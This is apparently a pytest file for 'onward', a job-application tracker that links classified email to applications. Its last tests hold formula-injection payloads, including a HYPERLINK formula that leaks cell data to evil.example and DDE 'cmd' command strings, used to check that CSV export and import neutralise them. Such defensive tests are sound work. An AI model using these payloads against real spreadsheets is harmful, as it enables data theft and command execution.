"""The tracker on realistic sequences, against SQLite and a real PostgreSQL."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from onward.classify.model import Verdict
from onward.mail.model import Locator, RawMessage
from onward.mail.parse import parse_message
from onward.store import Store
from onward.tracker.repo import Tracker, TrackerError
from onward.tracker.state import replay
from tests import pure_figures
from tests.factory import message

T0 = datetime(2026, 9, 1, 9, 0, tzinfo=UTC)
NOW = T0 + timedelta(days=10)


class Inbox:
    """Classified mail arriving in a real database, with verdicts we choose."""

    def __init__(self, url: str) -> None:
        self.store = Store(url)
        self.n = 0

    def receive(
        self,
        kind: str,
        company: str,
        role: str = "",
        day: int = 0,
        sender: str | None = None,
        reply_to: int | None = None,
    ) -> str:
        self.n += 1
        mid = f"<m{self.n}@t>"
        raw = message(self.n, subject=f"{kind} {company} {role}", sender=sender)
        raw = raw.replace(f"<test-{self.n}@onward.test>".encode(), mid.encode())
        if reply_to is not None:
            raw = raw.replace(
                b"\nMIME-Version", f"\nIn-Reply-To: <m{reply_to}@t>\nMIME-Version".encode(), 1
            )
        email = parse_message(raw)
        email = type(email)(
            **{**{f: getattr(email, f) for f in email.__slots__}, "date": T0 + timedelta(days=day)}
        )
        verdict = Verdict(kind, 0.95, False, company, role, "Greenhouse")
        loc = Locator("inbox", "INBOX", str(self.n))
        self.store.write_batch(
            "inbox", [(RawMessage(loc, raw, len(raw)), email, len(raw), verdict)]
        )
        return mid

    def tracker(self) -> Tracker:
        return Tracker(self.store, now=NOW)


@pytest.fixture
def inbox(db_url: str) -> Inbox:
    return Inbox(db_url)


def only(t: Tracker) -> dict:
    apps = t.apps()
    assert len(apps) == 1, apps
    return apps[0]


def test_confirm_assessment_interview_rejection(inbox: Inbox) -> None:
    inbox.receive("application_received", "Acme Robotics", "Data Analyst", 0)
    inbox.receive("assessment", "Acme Robotics", "Data Analyst", 2)
    inbox.receive("interview", "Acme Robotics", "", 4)
    inbox.receive("rejection", "Acme Robotics", "Data Analyst", 7)
    t = inbox.tracker()
    assert t.link_pending() == {"linked": 4, "opened": 1, "review": 0}
    a = only(t)
    assert (a["status"], a["closed_stage"]) == ("rejected", "interview")
    assert [e["kind"] for e in t.events_of(a["id"])] == [
        "application_received",
        "assessment",
        "interview",
        "rejection",
    ]
    assert t.link_pending()["linked"] == 0  # idempotent


def test_confident_job_mail_waits_for_a_link_until_linking_runs(inbox: Inbox) -> None:
    t = inbox.tracker()
    assert not t.waiting_for_a_link()
    inbox.receive("rejection", "Acme Robotics", "Data Analyst", 3)
    assert t.waiting_for_a_link()  # what a scan stopped before linking leaves
    t.link_pending()
    assert not t.waiting_for_a_link()


def test_duplicate_confirmations_and_late_mail_never_reopen(inbox: Inbox) -> None:
    inbox.receive("application_received", "Globex", "BI Analyst", 0)
    inbox.receive("application_received", "Globex", "BI Analyst", 0)
    inbox.receive("rejection", "Globex", "BI Analyst", 3)
    inbox.receive("application_received", "Globex", "BI Analyst", 5)  # a late robot
    t = inbox.tracker()
    t.link_pending()
    assert only(t)["status"] == "rejected"


def test_a_rejection_never_overwrites_an_offer(inbox: Inbox) -> None:
    inbox.receive("offer", "Initech", "Analyst", 0)
    inbox.receive("rejection", "Initech", "Analyst", 1)
    t = inbox.tracker()
    t.link_pending()
    assert only(t)["status"] == "offer"


def test_job_board_and_employer_confirming_the_same_role_are_one(inbox: Inbox) -> None:
    inbox.receive(
        "application_received",
        "Harbor Health",
        "Junior Data Analyst",
        0,
        sender="LinkedIn <jobs-noreply@linkedin.com>",
    )
    inbox.receive(
        "application_received",
        "Harbor Health Inc.",
        "Junior Data Analyst (H/F)",
        0,
        sender="Harbor Health <no-reply@ashbyhq.com>",
    )
    t = inbox.tracker()
    t.link_pending()
    assert only(t)["company"] == "Harbor Health"


def test_two_roles_at_one_company_stay_two_and_an_unnamed_role_goes_to_review(
    inbox: Inbox,
) -> None:
    inbox.receive("application_received", "Northwind", "Data Analyst", 0)
    inbox.receive("application_received", "Northwind", "Data Engineer", 1)
    mid = inbox.receive("rejection", "Northwind", "", 4)
    t = inbox.tracker()
    assert t.link_pending() == {"linked": 2, "opened": 2, "review": 1}
    assert len(t.apps()) == 2
    (pending,) = t.review_links()
    assert len(pending["note"]["candidates"]) == 2
    assert "names no role" in pending["note"]["reason"]
    target = pending["note"]["candidates"][0]["application_id"]
    t.attach(pending["id"], target)
    assert t.app(target)["status"] == "rejected"
    assert t.review_links() == [] and mid


def test_link_candidates_in_review_show_each_application_status_as_it_is_now(
    inbox: Inbox,
) -> None:
    from onward.web.queries import link_reviews

    inbox.receive("application_received", "Northwind", "Data Analyst", 0)
    inbox.receive("application_received", "Northwind", "Data Engineer", 1)
    inbox.receive("rejection", "Northwind", "", 4)
    t = inbox.tracker()
    t.link_pending()
    t.reject("Northwind", "Data Analyst", "phone", T0 + timedelta(days=5))
    for pending in (t.review_links()[0], link_reviews(inbox.store)[0]):
        whys = sorted(c["why"] for c in pending["note"]["candidates"])
        assert whys == ["Data Analyst (rejected)", "Data Engineer (applied)"]


def test_onward_review_and_the_dashboard_list_the_links_to_choose_alike_newest_first(
    inbox: Inbox,
) -> None:
    from onward.web.queries import link_reviews

    inbox.receive("application_received", "Northwind", "Data Analyst", 0)
    inbox.receive("application_received", "Northwind", "Data Engineer", 1)
    inbox.receive("rejection", "Northwind", "", 4)
    inbox.receive("interview", "Northwind", "", 6)
    t = inbox.tracker()
    assert t.link_pending()["review"] == 2
    cli = [r["subject"] for r in t.review_links()]
    assert cli == ["interview Northwind", "rejection Northwind"]
    assert [r["subject"] for r in link_reviews(inbox.store)] == cli


def test_thread_headers_link_a_reply_without_company(inbox: Inbox) -> None:
    inbox.receive("application_received", "Kestrel Labs", "Analytics Engineer", 0)
    inbox.receive("interview", "", "", 3, reply_to=1)
    t = inbox.tracker()
    t.link_pending()
    assert only(t)["status"] == "interview"


def test_rejection_with_no_prior_confirmation(inbox: Inbox) -> None:
    inbox.receive("rejection", "Umbra Health", "Nurse Analyst", 2)
    t = inbox.tracker()
    t.link_pending()
    a = only(t)
    assert (a["status"], a["closed_stage"]) == ("rejected", "applied")


def test_phone_rejection_by_hand_and_manual_flow(inbox: Inbox) -> None:
    t = inbox.tracker()
    saved = t.save("Solstice Energy", "Energy Data Analyst", url="https://jobs.example/1")
    assert t.app(saved)["status"] == "saved"
    applied = t.apply("Solstice Energy", "Energy Data Analyst", at=T0)
    assert applied == saved and t.app(saved)["status"] == "applied"
    t.reject("Solstice Energy", via="phone", at=T0 + timedelta(days=5), note="nice call")
    a = t.app(saved)
    assert (a["status"], a["closed_stage"]) == ("rejected", "applied")
    assert [e["via"] for e in t.events_of(saved) if e["kind"] == "rejection"] == ["phone"]
    t.apply("Solstice Energy", "Grid Analyst", at=T0 + timedelta(days=6))
    t.apply("Solstice Energy", "Market Analyst", at=T0 + timedelta(days=6))
    with pytest.raises(TrackerError, match="2 applications at Solstice Energy"):
        t.reject("Solstice Energy")


def test_merge_and_split(inbox: Inbox) -> None:
    inbox.receive("application_received", "Brightwave", "Data Analyst", 0)
    inbox.receive("interview", "Bright Wave Analytics", "Data Analyst", 3)
    t = inbox.tracker()
    t.link_pending()
    a, b = t.apps()
    t.merge(a["id"], b["id"])
    merged = only(t)
    assert merged["status"] == "interview"
    email_id = next(e["email_id"] for e in t.events_of(a["id"]) if e["kind"] == "interview")
    new = t.split(a["id"], email_id, role="Data Analyst II")
    assert t.app(a["id"])["status"] == "applied" and t.app(new)["status"] == "interview"


def test_ghosting_and_status_figures(inbox: Inbox) -> None:
    inbox.receive("application_received", "Acme", "Analyst", -30)
    for i, company in enumerate(["Acme", "Acme", "Acme"]):
        inbox.receive("application_received", company, f"Role {i}", 8)
    t = inbox.tracker()
    t.link_pending()
    t.set_setting("weekly_goal", "5")
    t.refresh_all()
    f = pure_figures.status(t.apps(), NOW, 5)
    assert f["ghosted"] == 1 and f["active"] == 3
    assert f["concentration"]["largest_share"] == 1.0 and f["concentration"]["eggs_in_one_basket"]
    assert any("all at Acme" in n for n in f["nudges"])
    assert any("not written for 40 days" in n for n in f["nudges"])
    assert set(f) >= {
        "active_by_stage",
        "this_week",
        "weekly_goal",
        "days_since_last_application",
        "response_rate",
        "median_days_to_first_response",
        "median_days_to_rejection",
        "rejections_by_stage",
        "median_bounce_back_days",
        "nudges",
    }


def test_replay_is_order_independent_of_arrival() -> None:
    evs = [
        ("rejection", T0 + timedelta(days=5), "email"),
        ("application_received", T0, "email"),
        ("interview", T0 + timedelta(days=2), "email"),
    ]
    state = replay(sorted(evs, key=lambda e: e[1]))
    assert (state["status"], state["closed_stage"]) == ("rejected", "interview")
    assert state["applied_at"] == T0


def run(*args: str, home: Path, db: str) -> str:
    from tests.runner import run as run_onward

    done = run_onward("--db", db, *args, home=home, timeout=120)
    assert done.returncode == 0, done.stderr
    return done.stdout


def test_import_then_scan_export_and_status_cli(db_url: str, tmp_path: Path) -> None:
    home = tmp_path / "home"
    csv_file = tmp_path / "huntr.csv"
    csv_file.write_text(
        "Company,Job Title,List,Date Applied,URL\n"
        "Acme Robotics,Data Analyst,Applied,2026-09-01,https://x.example/1\n"
        "Globex,BI Analyst,Wishlist,,\n"
        "Initech,Analyst,Rejected,2026-08-20,\n"
    )
    preview = run("import", str(csv_file), "--dry-run", home=home, db=db_url)
    assert "3 would be added" in preview
    run("import", str(csv_file), home=home, db=db_url)
    again = run("import", str(csv_file), "--dry-run", home=home, db=db_url)
    assert "0 would be added, 3 skipped" in again
    apps = json.loads(run("list", "--json", home=home, db=db_url))
    assert {a["company"]: a["status"] for a in apps} == {
        "Acme Robotics": "ghosted",
        "Globex": "saved",
        "Initech": "rejected",
    }
    # the employer's own confirmation for an imported application joins it
    inbox = Inbox(db_url)
    inbox.receive("interview", "Acme Robotics", "Data Analyst", 80)
    Tracker(inbox.store).link_pending()
    apps = json.loads(run("list", "--json", home=home, db=db_url))
    assert len(apps) == 3 and {a["status"] for a in apps if a["company"] == "Acme Robotics"} == {
        "interview"
    }
    status = json.loads(run("status", "--json", home=home, db=db_url))
    assert status["active"] == 1 and status["saved"] == 1 and status["rejected"] == 1
    exported = json.loads(run("export", "--format", "json", home=home, db=db_url))
    assert len(exported["applications"]) == 3
    assert any(e["kind"] == "interview" for a in exported["applications"] for e in a["events"])
    csv_out = run("export", "--format", "csv", home=home, db=db_url)
    assert csv_out.splitlines()[0].startswith("id,company,role,status")


def test_save_positions_from_a_job_alert_and_ghost_setting(db_url: str, tmp_path: Path) -> None:
    from onward.tracker.match import alert_positions

    body = (
        "Your job alert for data analyst\n15 new jobs match your preferences.\n\n"
        "Junior Data Analyst - Harbor Health - Lisbon\nBI Analyst - Tidewater Logistics - Remote\n"
        "See all jobs: https://jobs.example/x\n"
    )
    assert alert_positions(body) == [
        ("Junior Data Analyst", "Harbor Health"),
        ("BI Analyst", "Tidewater Logistics"),
    ]
    inbox = Inbox(db_url)
    inbox.receive("job_alert", "", "")
    from sqlalchemy import update

    from onward.store.schema import emails

    with inbox.store.engine.begin() as conn:
        conn.execute(update(emails).values(body=body))
    home = tmp_path / "home"
    run("save", "--from-alert", "1", home=home, db=db_url)
    saved = json.loads(run("list", "--status", "saved", "--json", home=home, db=db_url))
    assert {a["company"] for a in saved} == {"Harbor Health", "Tidewater Logistics"}
    run("goal", "8", "--ghost-after", "30", home=home, db=db_url)
    assert json.loads(run("status", "--json", home=home, db=db_url))["weekly_goal"] == 8
    assert Tracker(inbox.store).ghost_days == 30


def test_scan_classify_and_link_on_either_database(db_url: str, tmp_path: Path) -> None:
    from tests.factory import mbox_bytes

    home = tmp_path / "home"
    box = tmp_path / "in.mbox"
    body = (
        "Hi Sam,\n\nThank you for applying to Acme Robotics! We have received your "
        "application for the Data Analyst role and our team will review it.\n"
    )
    box.write_bytes(
        mbox_bytes(
            [
                message(1, subject="Thank you for applying to Acme Robotics", body=body),
                # Ordinary mail beside it: nothing to track.
                message(
                    2,
                    subject="Lunch on Friday?",
                    body="Hi Sam, are you free for lunch on Friday? Pat\n",
                    sender="Pat <pat@example.org>",
                ),
            ]
        )
    )
    first = run("scan", str(box), "--json", home=home, db=db_url)
    assert json.loads(first.strip().splitlines()[-1])["new"] == 2
    again = run("scan", str(box), "--json", home=home, db=db_url)
    assert json.loads(again.strip().splitlines()[-1])["new"] == 0
    apps = json.loads(run("list", "--json", home=home, db=db_url))
    assert [(a["company"], a["role"]) for a in apps] == [("Acme Robotics", "Data Analyst")]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\uff1d1+1",  # full-width equals sign
]


def _mail_with_formulas(path: Path) -> Path:
    """A Greenhouse display name and a LinkedIn subject that name a 'company' as a formula."""
    from email.message import EmailMessage

    from tests.factory import mbox_bytes

    def mail(i: int, sender: str, subject: str, body: str) -> bytes:
        msg = EmailMessage()
        msg["From"], msg["To"], msg["Subject"] = sender, "sam@example.org", subject
        msg["Date"], msg["Message-ID"] = "Mon, 16 Nov 2026 10:00:00 +0000", f"<f{i}@x>"
        msg.set_content(body)
        return msg.as_bytes()

    path.write_bytes(
        mbox_bytes(
            [
                mail(
                    1,
                    '"=HYPERLINK(""http://evil.example"",""Acme"") via Greenhouse" <no-reply@greenhouse.io>',
                    "Thank you for applying",
                    "Thank you for applying to our Data Analyst role. We received your application.",
                ),
                mail(
                    2,
                    "LinkedIn <jobs-noreply@linkedin.com>",
                    "Sam, your application was sent to -9+9 Corp",
                    "Your application was sent to -9+9 Corp",
                ),
            ]
        )
    )
    return path


def test_a_csv_export_hands_no_spreadsheet_a_formula(db_url: str, tmp_path: Path) -> None:
    import csv
    import io

    home = tmp_path / "home"
    for i, formula in enumerate(FORMULAS):
        run("apply", "--new", "--", formula, f"Analyst {i}", home=home, db=db_url)
    run("scan", str(_mail_with_formulas(tmp_path / "mail.mbox")), home=home, db=db_url)
    companies = {a["company"] for a in json.loads(run("list", "--json", home=home, db=db_url))}
    assert {"=HYPERLINK", "-9+9 Corp"} <= companies  # from the display name and the subject
    rows = list(csv.reader(io.StringIO(run("export", "--format", "csv", home=home, db=db_url))))
    danger = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(danger)]
    for formula in FORMULAS:
        assert "'" + formula in cells
    assert "'=HYPERLINK" in cells and "'-9+9 Corp" in cells
    exported = json.loads(run("export", "--format", "json", home=home, db=db_url))
    assert {a["company"] for a in exported["applications"]} == companies  # JSON is data, as is


def test_import_keeps_formula_cells_as_text_and_says_so(db_url: str, tmp_path: Path) -> None:
    import csv

    home = tmp_path / "home"
    path = tmp_path / "teal.csv"
    with path.open("w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["Company", "Job Title", "Status", "URL", "Notes"])
        w.writerow([FORMULAS[0], "-2+3", "Applied", "@evil", FORMULAS[1]])
        w.writerow(["'=Already Text", "Analyst", "Applied", "", ""])
        w.writerow(["Plain Co", "Analyst", "Applied", "", "- call back Monday"])
    out = run("import", str(path), home=home, db=db_url)
    assert "5 cell(s) began with =, +, - or @" in out and "leading '" in out
    apps = {a["company"]: a for a in json.loads(run("list", "--json", home=home, db=db_url))}
    assert set(apps) == {"'" + FORMULAS[0], "'=Already Text", "Plain Co"}
    first = apps["'" + FORMULAS[0]]
    assert (first["role"], first["url"], first["note"]) == ("'-2+3", "'@evil", "'" + FORMULAS[1])
    assert apps["Plain Co"]["note"] == "'- call back Monday"
    again = run("export", "--format", "csv", home=home, db=db_url)
    assert "''" not in again  # what is already text is not marked twice


def test_a_huge_import_field_is_cut_with_a_sentence_and_the_rest_imported(
    db_url: str, tmp_path: Path
) -> None:
    import csv

    home = tmp_path / "home"
    path = tmp_path / "huntr.csv"
    with path.open("w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["Company", "Job Title", "List", "Notes"])
        w.writerow(["Acme", "Analyst", "Applied", "short"])
        w.writerow(["Globex", "Analyst", "Applied", "line one\n" + "x" * 200_000])
        w.writerow(["Initech" * 100, "Analyst", "Applied", ""])
        w.writerow(["Umbrella", "Analyst", "Applied", "fine"])
    out = run("import", str(path), home=home, db=db_url)
    assert "Row 3: the Notes field has 200,009 characters; onward kept the first 20,000." in out
    assert "Row 4: the Company field has 700 characters; onward kept the first 200." in out
    assert "Unexpected" not in out
    apps = {a["company"]: a for a in json.loads(run("list", "--json", home=home, db=db_url))}
    assert set(apps) == {"Acme", "Globex", "Initech" * 28 + "Init", "Umbrella"}
    assert len(apps["Globex"]["note"]) == 20_000 and apps["Umbrella"]["note"] == "fine"


def test_neutralise_marks_only_what_a_spreadsheet_would_run() -> None:
    from onward.tracker.transfer import neutralise

    for formula in [*FORMULAS, "\tx", "\rx", "\uff0bx", "\uff0dx", "\uff20x"]:
        assert neutralise(formula) == "'" + formula
    for text in ("Acme", "2026-11-20", "'=x", " =x", "", "Data - Analyst"):
        assert neutralise(text) == text
